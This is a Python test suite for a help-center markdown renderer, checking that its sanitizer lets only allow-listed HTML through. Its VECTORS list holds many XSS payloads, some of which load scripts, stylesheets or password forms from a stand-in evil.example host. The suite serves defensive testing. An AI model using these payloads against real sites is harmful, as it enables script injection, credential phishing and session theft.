"""Whatever is written, the page holds nothing outside of the allow-list."""

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from helpcenter.core.markdown import render
from helpcenter.core.markdown.profile import ARTICLE, COMMUNITY
from helpcenter.core.markdown.refusal import MarkdownRefused
from helpcenter.core.markdown.renderer import render as render_here
from helpcenter.core.markdown.sanitizer import sanitized
from tests.core.markdown.html_check import Page, complaints

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror=alert(1)>',
    "<img/src=x/onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img srcset='https://evil.example/x 1x' src=a.png>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert("1")</script>">',
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='jav&Tab;ascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(2)>x</a>",
    "<a href=x target=_blank rel=opener ping=//evil.example download>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](java\\script:alert(1))",
    '[x](https://ok.example "onclick=alert(1)")',
    '[x](https://ok.example"onmouseover="alert(1))',
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    '![x" onerror="alert(1)](a.png)',
    '![x](a.png "t\\" onerror=alert(1) x=\\"")',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://ok.example/"onmouseover=alert(1)>',
    "<img src='/&#9;/evil.example/x.png' alt=x>",
    "<img src='&#9;//evil.example/x.png' alt=x>",
    "<img src='\\\\evil.example/x.png' alt=x>",
    "<img src='/\\evil.example/x.png' alt=x>",
    "<img src='ht&#10;tps://evil.example/x.png' alt=x>",
    "<img src='https:evil.example/x.png' alt=x>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style=position:fixed>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<input type=text name=x value=y autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onfocus=alert(1)><option>x</select>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1) src=a.mp4></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<title><img title="</title><img src=x onerror=alert(1)>">',
    "<plaintext><script>alert(1)",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<del cite=javascript:alert(1)>x</del>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    "<p id=main name=x>x</p>",
    "<h2 id=location>x</h2>",
    "<a id=getElementById name=cookie href=x>x</a>",
    "<img id=body name=body src=x.png alt=x>",
    "<div class='modal admin-only' data-action=delete>x</div>",
    "<span class='k modal'>x</span>",
    "<div class=callout role=alertdialog tabindex=5 aria-hidden=true>x</div>",
    "<code class='language-x evil language-\"onclick'>x</code>",
    "<p dir=x lang=y hidden inert contenteditable slot=z is=x part=y>x</p>",
    "<tab-group onclick=alert(1) id=x><section onclick=alert(1)>x</section></tab-group>",
    "<part-form action=/x method=post>x</part-form>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```js title="<script>alert(1)</script>"\nx\n```',
    '```js {1}" onclick="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    '# x {#"onclick=alert(1)}',
    "# x {onclick=alert(1)}",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    "> [!NOTE] <script>alert(1)</script>\n> x",
    '!!! note "<script>alert(1)</script>"\n    x',
    '!!! "onclick=alert(1)" "x"\n    x',
    ":::tip[<img src=x onerror=alert(1)>]\nx\n:::",
    '=== "<img src=x onerror=alert(1)>"\n    x',
    '??? "<img src=x onerror=alert(1)>"\n    x',
    '++"<script>"++',
    "- [ ] <input type=text>\n- [x] <img src=x onerror=alert(1)>",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "|<script>|\n|-|\n|alert(1)</script>|",
    "https://ok.example/<script>alert(1)</script>",
    'https://ok.example/"onmouseover="alert(1)',
    "www.ok.example/'><script>alert(1)</script>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "<p>\x02klzzwxh:0000\x03</p>",
    "import x from 'y'\n\n<Evil onClick={() => alert(1)}>x</Evil>",
    "import x from 'y'\n\n<img src={'x'} onError={'alert(1)'} />",
    "import x from 'y'\n\n<a href={'javascript:alert(1)'}>x</a>",
    "import x from 'y'\n\n<TabItem label='<script>alert(1)</script>'>x</TabItem>",
    "import x from 'y'\n\n{'<script>alert(1)</script>'}",
    '<TabItem label="<img src=x onerror=alert(1)>">x</TabItem>',
]
PIECES = [
    "<", ">", "</", "/>", "=", '"', "'", "`", "```", "\n", "\n\n", "    ", "- ", "1. ", "> ", "# ", "[", "]", "(",
    ")", "![", "javascript:", "data:text/html,", "https://a.example/", "//a.example", "onerror=", "style=", "class=",
    "id=", "href=", "src=", "a", "img", "svg", "math", "script", "style", "iframe", "form", "p", "b", "table", "td",
    "h1", "div", "input", "template", "title", "details", "code", "pre", "video", "!--", "-->", "&#106;", "&colon;",
    "&lt;", "\x00", "\x02", "\x03", "[^1]", "[^1]: ", "|", "|-|", "!!! note", ":::tip", '=== "a"', "==", "~~", "**",
    "_", "++ctrl++", "- [ ] ", "{", "}", "import a from 'b'\n", "<A b={", "{/*", "\u202e", "é", "\u2028", "wzxhzdk:0",
]  # fmt: skip
TEXTS = st.lists(st.sampled_from(PIECES) | st.text(max_size=4), max_size=40).map("".join)


@pytest.mark.parametrize("profile", ["article", "community"])
@pytest.mark.parametrize("text", VECTORS)
def test_nothing_outside_the_list_reaches_the_page(text: str, profile: str) -> None:
    for written in (text, f"before {text} after", f"- {text}", f"> {text}", f"<div>\n{text}\n</div>", f"*{text}*"):
        html = render(written, profile).html
        assert complaints(html) == [], html


@pytest.mark.parametrize("tag", ["svg", "math", "template", "noscript", "iframe", "form", "script", "style"])
def test_what_may_run_or_ask_goes_with_everything_in_it(tag: str) -> None:
    for profile in ("article", "community"):
        html = render(f"before\n\n<{tag}>inside</{tag}>\n\nafter", profile).html
        assert "inside" not in html
        assert "before" in html and "after" in html


def test_comments_are_taken_out() -> None:
    assert render("a <!-- secret --> b\n\n<!--\nsecret\n\nsecret\n-->\n\nc", "community").plain_text == "a b\nc"


def test_every_link_of_a_stranger_says_that_it_is_one() -> None:
    page = Page(
        render("[a](https://a.example) <a href=/b rel=opener>b</a> https://c.example [^1]\n\n[^1]: d", "community").html
    )
    relations = [attributes.get("rel") for tag, attributes in page.tags if tag == "a"]
    assert len(relations) == 5
    assert set(relations) == {"nofollow ugc noopener"}


def test_an_editors_link_needs_no_such_word() -> None:
    assert "rel=" not in render("[a](https://a.example)", "article").html


@pytest.mark.parametrize("scheme", ["http://a.example", "https://a.example", "mailto:a@b.example", "tel:+4912345"])
def test_the_schemes_that_people_use_are_kept(scheme: str) -> None:
    assert f'href="{scheme}"' in render(f"[a]({scheme})", "community").html


@pytest.mark.parametrize(
    "scheme", ["ftp", "bitcoin", "geo", "irc", "magnet", "sms", "ssh", "webcal", "xmpp", "blob", "ws"]
)
def test_other_schemes_leave_the_text_of_the_link(scheme: str) -> None:
    html = render(f"[text]({scheme}:a) <a href='{scheme}:a'>more</a>", "community").html
    assert "<a" not in html
    assert "text" in html and "more" in html


def test_a_picture_of_another_host_is_a_link_because_a_page_loads_nothing_from_elsewhere() -> None:
    for written in ("![A cat](https://a.example/cat.png)", "<img src='//a.example/cat.png' alt='A cat'>"):
        page = Page(render(written, "community").html)
        assert [tag for tag, _ in page.tags if tag == "img"] == []
        assert [attributes["class"] for tag, attributes in page.tags if tag == "a"] == ["outside-picture"]
        assert page.words.strip() == "A cat"


def test_two_texts_on_one_page_do_not_share_ids() -> None:
    first, second = (render(f"# Same\n\nnote[^1] {word}\n\n[^1]: text", "community") for word in ("one", "two"))
    ids = [attributes["id"] for text in (first, second) for _, attributes in Page(text.html).tags if "id" in attributes]
    assert len(ids) == 6
    assert len(set(ids)) == 6


@settings(max_examples=max(300, settings.default.max_examples), deadline=None)
@given(TEXTS, st.sampled_from([ARTICLE, COMMUNITY]))
@example("<a href='x' title='\"><script>'>y</a>", COMMUNITY)
@example("<h1>a</h1><h3 id=x>b</h3>", ARTICLE)
def test_no_text_at_all_brings_anything_else_onto_the_page(text: str, profile: object) -> None:
    try:
        html = render_here(text, profile, {}).html  # type: ignore[arg-type]
    except MarkdownRefused:
        return
    assert complaints(html) == [], html


@settings(max_examples=100, deadline=None)
@given(TEXTS)
def test_the_same_text_always_becomes_the_same_page(text: str) -> None:
    try:
        assert render_here(text, ARTICLE, {}) == render_here(text, ARTICLE, {})
    except MarkdownRefused:
        return


def test_the_guard_alone_lets_no_picture_of_another_host_through() -> None:
    # The tree takes them out before; whatever slips past it ends here.
    for address in ("https://else.example/a.png", "//else.example/a.png", "http://else.example/a.png"):
        assert "else.example" not in sanitized(f'<img src="{address}" alt="A cat">', ARTICLE)
    assert 'src="/files/a.webp"' in sanitized('<img src="/files/a.webp" alt="A cat">', ARTICLE)
